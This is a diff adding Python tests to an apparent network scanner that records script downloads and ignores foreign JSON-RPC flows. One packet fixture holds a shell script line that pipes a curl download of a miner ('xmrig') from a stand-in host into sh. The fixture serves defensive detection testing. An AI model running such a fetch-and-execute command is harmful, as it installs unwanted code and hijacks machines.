@@ -40,3 +40,30 @@ def test_timestamps_running_backwards_keep_a_valid_window():
     findings = build_findings([], [session], table, 2, ScanOptions())
     (host,) = findings["hosts"]
     assert host["energy_kwh_window"]["best"] is not None and host["energy_kwh_window"]["best"] >= 0
+
+
+def test_download_of_a_script_is_recorded_and_ends_inspection():
+    table = FlowTable()
+    ignored = []
+    table.on_ignore = lambda *key: ignored.append(key)
+    table.add(pkt(1.0, 99, b"", flags=SYN))
+    table.add(pkt(1.1, 100, b"GET /x.sh HTTP/1.1\r\nHost: 198.51.100.9\r\n\r\n"))
+    table.add(pkt(1.2, 1, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\n"
+                  b"#!/bin/sh\ncurl -s http://x/xmrig|sh\n", from_client=False))
+    (receiver, download), = table.downloads
+    assert receiver == CLIENT[0]
+    assert (download.kind, download.url, download.ts) == ("script", "http://198.51.100.9/x.sh", 1.2)
+    assert ignored == [(CLIENT[0], CLIENT[1], SERVER[0], SERVER[1], 6)]
+
+
+def test_json_rpc_of_other_services_is_ignored_after_four_requests():
+    table = FlowTable()
+    ignored = []
+    table.on_ignore = lambda *key: ignored.append(key)
+    seq = 100
+    for i in range(flows.FOREIGN_METHOD_LIMIT):
+        line = b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":%d}\n' % i
+        assert not ignored
+        table.add(pkt(float(i), seq, line))
+        seq += len(line)
+    assert len(ignored) == 1 and table.finish() == []
